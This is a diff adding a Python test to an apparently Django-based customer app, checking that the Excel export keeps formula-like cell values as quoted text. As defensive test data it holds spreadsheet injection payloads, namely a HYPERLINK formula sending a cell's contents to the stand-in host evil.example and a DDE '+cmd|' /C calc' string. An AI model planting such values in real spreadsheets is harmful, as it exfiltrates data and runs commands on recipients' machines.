@@ -496,3 +496,23 @@ def test_a_file_without_the_required_columns_fails_in_the_worker_with_the_reason
     assert not job.file
     page = manager_client.get(response["Location"]).content.decode()
     assert job.message in page
+
+
+def test_a_cell_that_would_be_a_formula_is_exported_as_text(manager_client, manager_tenant, brand):
+    import zipfile as zf
+
+    hostile = '=HYPERLINK("http://evil.example/?d="&B2,"点击")'
+    for name, notes in ((hostile, "+cmd|' /C calc'!A0"), ("张三", "@SUM(1+1)")):
+        customer_create(tenant=manager_tenant, name=name, mobile=f"1391234000{len(notes) % 10}", notes=notes)
+    customer_create(tenant=manager_tenant, name="李四", mobile="13912340009", phone2="+86 755 1234 5678")
+
+    content = b"".join(manager_client.get(reverse("customers:export")).streaming_content)
+
+    cells = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
+    texts = {c.value: c for row in cells.iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
+    for value in (hostile, "+cmd|' /C calc'!A0", "@SUM(1+1)", "+86 755 1234 5678"):
+        assert texts[value].data_type == "s"  # the text as it was, not a formula
+        assert texts[value].quotePrefix  # Excel keeps it text when the cell is edited
+    sheet_xml = zf.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml
+    assert texts["张三"].data_type == "s" and not texts["张三"].quotePrefix
